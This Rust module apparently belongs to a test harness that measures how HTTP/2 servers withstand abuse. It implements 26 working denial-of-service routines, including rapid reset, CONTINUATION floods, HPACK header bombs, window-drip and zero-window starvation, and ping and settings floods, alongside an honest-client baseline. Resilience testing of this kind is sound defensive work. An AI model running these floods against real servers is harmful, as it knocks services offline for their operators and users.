//! What HTTP/2 lets a client do to a server: each as a function that goes on until the connection ends or it is stopped.

use std::future::pending;
use std::io;
use std::pin::Pin;
use std::time::Duration;

use crate::http2_abuse::frame::{Frame, Kind, flags};
use crate::http2_abuse::hpack;
use crate::http2_abuse::peer::{Peer, get};

/// Streams that a connection may have open: as many as are worth trying.
pub(super) const STREAMS: usize = 100;
/// The largest window.
pub(super) const WINDOW: u32 = 0x7fff_ffff;

/// An attack under way; an error says that the server ended the connection.
pub type Running<'p> = Pin<Box<dyn Future<Output = io::Result<()>> + Send + 'p>>;

/// One attack.
#[derive(Clone, Copy, Debug)]
pub struct Attack {
    /// Its name in reports.
    pub name: &'static str,
    /// Whether a server must give the connection up, or only bear it.
    pub must_end: bool,
    /// Begins it on a fresh connection.
    pub run: for<'p> fn(&'p mut Peer) -> Running<'p>,
}

/// All of them.
pub const ATTACKS: [Attack; 26] = [
    // Streams that are given up.
    ends("rapid reset", |peer| over_and_over(peer, |stream| vec![slow(stream), Frame::reset(stream, 8)])),
    ends("made-you-reset by a window update of nothing", |peer| {
        over_and_over(peer, |stream| vec![slow(stream), Frame::window(stream, 0)])
    }),
    ends("made-you-reset by a window beyond its bounds", |peer| {
        over_and_over(peer, |stream| vec![slow(stream), Frame::window(stream, WINDOW)])
    }),
    ends("made-you-reset by data after the end", |peer| {
        over_and_over(peer, |stream| vec![slow(stream), Frame::data(stream, true, *b"x")])
    }),
    ends("malformed requests", |peer| {
        over_and_over(peer, |stream| {
            vec![Frame::headers(stream, true, hpack::literals([(":method", "GET")]))]
        })
    }),
    bears("more streams than are allowed", |peer| over_and_over(peer, |stream| vec![upload(stream)])),
    // Heads.
    ends("continuation flood", continuations),
    ends("empty continuations", empty_continuations),
    bears("a head that does not end", unfinished_head),
    bears("header bomb", |peer| named_again(peer, (b"x-bomb", vec![b'y'; 3000]), "/", 16_000)),
    bears("cookie crumbs", |peer| named_again(peer, (b"cookie", b"a".to_vec()), "/slow", 1_500)),
    bears("heads as large as they may be", large_heads),
    // Windows.
    bears("no window", |peer| large_answers(peer, 0, 0)),
    bears("no reading", |peer| large_answers(peer, WINDOW, WINDOW - 65_535)),
    bears("no window of the connection", |peer| large_answers(peer, WINDOW, 0)),
    bears("window drip", |peer| drip(peer, true)),
    bears("window drip without reading", |peer| drip(peer, false)),
    bears("windows that open and close", windows_open_and_close),
    bears("window updates", |peer| Box::pin(peer.pour(|| vec![Frame::window(0, 1); 50]))),
    bears("open uploads", open_uploads),
    // Frames that ask for work, or for none.
    bears("pings", |peer| Box::pin(peer.pour(|| vec![Frame::new(Kind::Ping, flags::NONE, 0, [0; 8]); 50]))),
    bears("pings without reading", |peer| flood_of(peer, Frame::new(Kind::Ping, flags::NONE, 0, [0; 8]))),
    bears("settings without reading", |peer| flood_of(peer, Frame::settings(&[(4, 65_535)]))),
    bears("settings of the header table", |peer| {
        Box::pin(peer.pour(|| vec![Frame::settings(&[(1, 0)]), Frame::settings(&[(1, u32::MAX)])]))
    }),
    bears("priorities", |peer| {
        Box::pin(peer.pour(|| vec![Frame::new(Kind::Priority, flags::NONE, 1, [0, 0, 0, 3, 16]); 50]))
    }),
    bears("empty data", empty_data),
];

const fn ends(name: &'static str, run: for<'p> fn(&'p mut Peer) -> Running<'p>) -> Attack {
    Attack { name, must_end: true, run }
}

pub(super) const fn bears(name: &'static str, run: for<'p> fn(&'p mut Peer) -> Running<'p>) -> Attack {
    Attack { name, must_end: false, run }
}

/// No attack: what an honest client does, for the machine's own share in the figures.
pub const HONEST: Attack = bears("an honest client", honest);

/// As many requests as an honest client can send.
fn honest(peer: &mut Peer) -> Running<'_> {
    Box::pin(async {
        for stream in streams() {
            let reply = peer.get(stream, "/", Duration::from_secs(60)).await;
            if reply.status() != Some(200) {
                return Err(io::Error::other(format!("{reply:?}")));
            }
        }
        Ok(())
    })
}

/// Clients' streams are odd.
pub(super) fn streams() -> impl Iterator<Item = u32> {
    (1..).step_by(2)
}

fn request(stream: u32, path: &str) -> Frame {
    Frame::headers(stream, true, hpack::literals(get(path)))
}

/// A request whose answer takes its time.
fn slow(stream: u32) -> Frame {
    request(stream, "/slow")
}

/// The head of a request whose body is to come.
fn upload(stream: u32) -> Frame {
    let fields = [(":method", "POST"), (":scheme", "https"), (":authority", "shop.test"), (":path", "/slow")];
    Frame::headers(stream, false, hpack::literals(fields))
}

/// The same on one stream after the other.
fn over_and_over(peer: &mut Peer, frames: fn(u32) -> Vec<Frame>) -> Running<'_> {
    let mut streams = streams();
    Box::pin(peer.pour(move || streams.next().map(frames).unwrap_or_default()))
}

/// The same again and again, without a look at what comes back.
fn flood_of(peer: &mut Peer, frame: Frame) -> Running<'_> {
    Box::pin(async move {
        let frames = vec![frame; 50];
        loop {
            peer.send(&frames).await?;
        }
    })
}

/// A head that goes on and on.
fn continuations(peer: &mut Peer) -> Running<'_> {
    Box::pin(async {
        peer.send(&[Frame::new(Kind::Headers, flags::END_STREAM, 1, hpack::literals(get("/")))]).await?;
        let part = hpack::literals([("x-part", "y".repeat(1000))]);
        peer.pour(|| vec![Frame::new(Kind::Continuation, flags::NONE, 1, part.clone())]).await
    })
}

/// The same with parts that hold nothing.
fn empty_continuations(peer: &mut Peer) -> Running<'_> {
    Box::pin(async {
        peer.send(&[Frame::new(Kind::Headers, flags::END_STREAM, 1, Vec::new())]).await?;
        peer.pour(|| vec![Frame::new(Kind::Continuation, flags::NONE, 1, Vec::new()); 100]).await
    })
}

/// Half a head, then silence.
fn unfinished_head(peer: &mut Peer) -> Running<'_> {
    Box::pin(async {
        let half = hpack::literals([("x-part", "y".repeat(15_000))]);
        peer.send(&[Frame::new(Kind::Headers, flags::NONE, 1, half)]).await?;
        pending().await
    })
}

/// A field that enters the table once and is named many times in each block: cheap to send, a field each for the server.
fn named_again<'p>(
    peer: &'p mut Peer,
    field: (&'static [u8], Vec<u8>),
    path: &'static str,
    times: usize,
) -> Running<'p> {
    Box::pin(async move {
        let mut first = hpack::literals(get("/"));
        first.extend(hpack::incremental(field.0, &field.1));
        peer.send(&[Frame::headers(1, true, first)]).await?;
        let mut block = hpack::literals(get(path));
        block.extend(vec![hpack::indexed(62); times]);
        let mut streams = streams().skip(1);
        peer.pour(|| {
            streams.next().map(|stream| Frame::headers(stream, true, block.clone())).into_iter().collect()
        })
        .await
    })
}

/// A hundred heads near the limit, whose answers are not to come soon.
fn large_heads(peer: &mut Peer) -> Running<'_> {
    Box::pin(async {
        for stream in streams().take(STREAMS) {
            let mut fields = get("/slow").map(|(name, value)| (name.to_owned(), value.to_owned())).to_vec();
            fields.extend((0..4).map(|number| (format!("x-{number}"), "y".repeat(15_000))));
            let block = hpack::literals(fields);
            let (first, rest) = block.split_at(16_000);
            let mut frames = vec![Frame::new(Kind::Headers, flags::END_STREAM, stream, first)];
            frames.extend(
                rest.chunks(16_000).map(|part| Frame::new(Kind::Continuation, flags::NONE, stream, part)),
            );
            if let Some(last) = frames.last_mut() {
                last.flags |= flags::END_HEADERS;
            }
            peer.send(&frames).await?;
        }
        peer.pour(Vec::new).await
    })
}

/// A hundred large answers with these windows, and nobody who reads.
fn large_answers(peer: &mut Peer, window: u32, more: u32) -> Running<'_> {
    Box::pin(async move {
        let mut frames = vec![Frame::settings(&[(4, window)])];
        if more > 0 {
            frames.push(Frame::window(0, more));
        }
        frames.extend(streams().take(STREAMS).map(|stream| request(stream, "/large")));
        peer.send(&frames).await?;
        pending().await
    })
}

/// A hundred large answers whose windows open by one byte at a time.
fn drip(peer: &mut Peer, reading: bool) -> Running<'_> {
    Box::pin(async move {
        let mut first = vec![Frame::settings(&[(4, 1)])];
        first.extend(streams().take(STREAMS).map(|stream| request(stream, "/large")));
        peer.send(&first).await?;
        let drops: Vec<Frame> = streams().take(STREAMS).map(|stream| Frame::window(stream, 1)).collect();
        if reading {
            return peer.pour(|| drops.clone()).await;
        }
        loop {
            peer.send(&drops).await?;
        }
    })
}

/// Settings that change the windows of a hundred streams, back and forth.
fn windows_open_and_close(peer: &mut Peer) -> Running<'_> {
    Box::pin(async {
        let mut first = vec![Frame::settings(&[(4, 1)])];
        first.extend(streams().take(STREAMS).map(|stream| request(stream, "/large")));
        peer.send(&first).await?;
        peer.pour(|| vec![Frame::settings(&[(4, 0)]), Frame::settings(&[(4, 1_000_000)])]).await
    })
}

/// A hundred uploads that never end, each with a part of its body.
fn open_uploads(peer: &mut Peer) -> Running<'_> {
    Box::pin(async {
        for stream in streams().take(STREAMS) {
            peer.send(&[upload(stream), Frame::data(stream, false, vec![b'x'; 8 * 1024])]).await?;
        }
        peer.pour(Vec::new).await
    })
}

/// A body of nothing, piece by piece.
fn empty_data(peer: &mut Peer) -> Running<'_> {
    Box::pin(async {
        peer.send(&[upload(1)]).await?;
        peer.pour(|| vec![Frame::data(1, false, Vec::new()); 50]).await
    })
}
